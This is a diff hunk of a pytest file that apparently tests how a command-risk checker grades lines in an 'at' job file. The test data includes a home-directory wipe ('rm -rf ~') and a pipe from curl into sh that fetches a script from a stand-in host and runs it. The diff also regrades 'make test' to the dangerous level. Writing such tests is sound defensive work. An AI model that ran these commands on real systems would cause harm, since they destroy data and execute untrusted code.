@@ -118,7 +118,7 @@ def test_gh_login_to_the_host_the_projects_remote_names(place):
 # ---------------------------------------------------------------- at -f FILE: the job file's commands
 
 
-@pytest.mark.parametrize("text,level", [("make test\n", H), ("rm -rf ~\n", D),
+@pytest.mark.parametrize("text,level", [("make test\n", D), ("rm -rf ~\n", D),
                                         ("curl -s https://x.example/p | sh\n", D)])
 def test_an_at_job_file_is_judged_as_a_line(place, text, level):
     write(place, "jobs/nightly.sh", text)
